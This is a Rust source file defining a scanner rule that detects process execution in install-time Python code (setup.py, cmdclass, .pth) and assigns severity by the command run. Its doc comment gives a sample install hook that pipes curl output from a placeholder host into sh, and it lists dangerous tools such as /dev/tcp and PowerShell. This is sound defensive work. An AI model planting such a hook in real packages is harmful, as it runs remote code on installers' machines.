use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;

use super::common::{
    CommandKind, CommandText, Liveness, called_from_install, classify_call, command_of,
    dangerous_in_snippet, decoded_by_local_helper, guarded_by_argv, is_process_exec,
    python_sources,
};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds Python code that starts another program while the package is being
/// installed: in `setup.py` (at its top level or in a `cmdclass` command such
/// as `PostInstall.run`), in the files `setup.py` imports, and in code run by a
/// `.pth` file. The literal command decides the weight: compilers, build
/// systems and VCS queries (`make`, `cmake`, `git describe`, `pkg-config`) are
/// not reported; shells fetching URLs, `curl`/`wget`, PowerShell, `start x.exe`,
/// `/dev/tcp`, `base64 -d` are critical; other commands, and commands built at
/// install time, are medium or high.
///
/// ## Why is this bad?
/// Overriding the install command to shell out is the single most common shape
/// of malicious PyPI packages: `pip install` runs it with the user's rights
/// before anyone has looked at the code. Benign packages shell out at install
/// time mostly to build native code, which the command itself shows.
///
/// ## Example
/// ```python
/// class PostInstall(install):
///     def run(self):
///         install.run(self)
///         os.system("curl -s http://example.invalid/p.sh | sh")
/// ```
#[derive(Debug)]
pub struct InstallProcessExec;

impl Rule for InstallProcessExec {
    fn id(&self) -> &'static str {
        "PY-INSTALL-PROCESS-EXEC"
    }
    fn category(&self) -> Category {
        Category::EXECUTION
    }
    fn summary(&self) -> &'static str {
        "process execution in install-time Python code (setup.py, cmdclass, .pth)"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        let also = called_from_install(input);
        for (file, source) in python_sources(input) {
            if file.runs_at != RunsAt::Install {
                continue;
            }
            // setup.py and .pth code run themselves; other install-time files
            // run only what setup.py's code calls.
            let imported = file.imported_by.is_some();
            let live = Liveness::of(file, source, input, &also);
            let text = input.text(&file.path).unwrap_or_default();
            for call in &source.calls {
                if !is_process_exec(&call.callee) {
                    continue;
                }
                let runs = !imported || live.runs(call);
                let top = call.scope.is_none();
                let command = command_of(call);
                let kind = decoded_by_local_helper(call, source)
                    .map(CommandKind::Dangerous)
                    .or_else(|| classify_call(call));
                let (severity, why) = match (&command, kind) {
                    (_, Some(CommandKind::Dangerous(why))) if runs => (Severity::Critical, why),
                    (_, Some(CommandKind::Dangerous(why))) => (Severity::High, why),
                    _ if !runs => continue,
                    // Helpers such as versioneer's `run_command(cmd)`.
                    (CommandText::Dynamic, _) if imported => (
                        Severity::Low,
                        "runs a command built at install time".to_owned(),
                    ),
                    // Compilers, build systems and VCS queries: what setup.py is for.
                    (_, Some(CommandKind::Build)) => continue,
                    (c, _) => match dangerous_in_snippet(&call.snippet) {
                        Some(what) => (Severity::Critical, format!("its command involves {what}")),
                        None => match (c, top) {
                            (CommandText::Literal(_), true) => {
                                (Severity::Medium, "runs a fixed command".to_owned())
                            }
                            (CommandText::Literal(_), false) => {
                                (Severity::Low, "runs a fixed command".to_owned())
                            }
                            (_, true) => (
                                Severity::High,
                                "runs a command built at install time".to_owned(),
                            ),
                            (_, false) => (
                                Severity::Medium,
                                "runs a command built at install time".to_owned(),
                            ),
                        },
                    },
                };
                let severity = if severity < Severity::Critical && guarded_by_argv(&text, call.line)
                {
                    // A maintainer's `python setup.py publish` helper.
                    Severity::Low
                } else {
                    severity
                };
                let place = match &call.scope {
                    None => "at the top level of".to_owned(),
                    Some(s) => format!("in `{s}` of"),
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("`{}` {place} install-time code {why}", call.callee),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}
